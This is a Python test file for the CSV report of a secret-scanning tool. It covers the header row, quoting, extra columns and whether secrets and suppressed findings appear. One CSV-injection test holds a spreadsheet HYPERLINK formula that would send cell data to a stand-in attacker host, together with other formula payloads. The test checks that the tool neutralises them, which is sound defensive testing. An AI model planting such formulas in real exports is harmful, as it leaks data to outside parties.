"""The CSV report: golden file, RFC 4180 quoting, columns from the JSON report's fields."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable

from report_sample import AWKWARD_SHOWN, name_result

from hvscan.model import History
from hvscan.report.json_format import FINDING_FIELDS
from hvscan.scan import ScanResult


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_header_is_the_finding_fields_even_without_findings(
    render: Callable[..., str],
) -> None:
    text = render("csv", ScanResult())
    assert text == ",".join(FINDING_FIELDS) + "\r\n"


def test_awkward_values_round_trip(result: ScanResult, render: Callable[..., str]) -> None:
    rows = _rows(render("csv", result))
    assert len(rows) == 4
    assert rows[1]["path"] == AWKWARD_SHOWN
    assert rows[3]["path"] == ""  # a commit message has no path: empty means null
    assert rows[3]["commit"] == result.findings[3].commit
    assert rows[2]["author"] == "Zoë Example <zoe@example.com>"
    assert json.loads(rows[2]["verification"])["status"] == "live"
    assert rows[0]["line"] == "1" and rows[0]["column"] == "12"


def test_extra_fields_become_sorted_columns(
    result: ScanResult, render: Callable[..., str]
) -> None:
    result.findings[2] = result.findings[2].replace(
        history=History(blob="b10b", unreachable=True)
    )
    text = render("csv", result)
    header = text.splitlines()[0].split(",")
    assert header == [*FINDING_FIELDS, "blob", "unreachable"]
    rows = _rows(text)
    assert (rows[2]["blob"], rows[2]["unreachable"]) == ("b10b", "true")
    assert (rows[0]["blob"], rows[0]["unreachable"]) == ("", "")


def test_secrets_only_with_show_secrets(
    result: ScanResult, keys: dict[str, str], render: Callable[..., str]
) -> None:
    hidden = render("csv", result)
    assert "secret" not in hidden.splitlines()[0].split(",")
    assert not any(key in hidden for key in keys.values())
    rows = _rows(render("csv", result, show_secrets=True))
    assert rows[0]["secret"] == keys["live"]
    assert rows[1]["secret"] == keys["test"]


def test_suppressed_findings_only_with_show_suppressed(
    result: ScanResult, render: Callable[..., str]
) -> None:
    assert len(_rows(render("csv", result))) == 4
    text = render("csv", result, show_suppressed=True)
    assert text.splitlines()[0].endswith(",suppression")
    rows = _rows(text)
    assert [r["suppression"] for r in rows] == ["", "", "", "", "inline"]
    assert rows[4]["path"] == "tests/fixtures/legacy.py"


def test_cells_a_spreadsheet_would_evaluate_are_quoted(
    result: ScanResult, render: Callable[..., str]
) -> None:
    # OWASP's CSV injection advice: a leading quote makes the cell text.
    result.findings[0].path = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    result.findings[2].author = "@SUM(1+1) <a@example.com>"
    result.findings[1].path = "-2+3"
    rows = _rows(render("csv", result))
    assert rows[0]["path"] == "'" + result.findings[0].path
    assert rows[2]["author"] == "'@SUM(1+1) <a@example.com>"
    assert rows[1]["path"] == "'-2+3"
    assert rows[0]["rule_id"] == "hesedvid-live-key" and rows[0]["line"] == "1"


def test_a_key_in_a_name_has_the_in_name_column(render: Callable[..., str]) -> None:
    rows = list(csv.DictReader(io.StringIO(render("csv", name_result()))))
    assert [row["in_name"] for row in rows] == ["true", "true"]
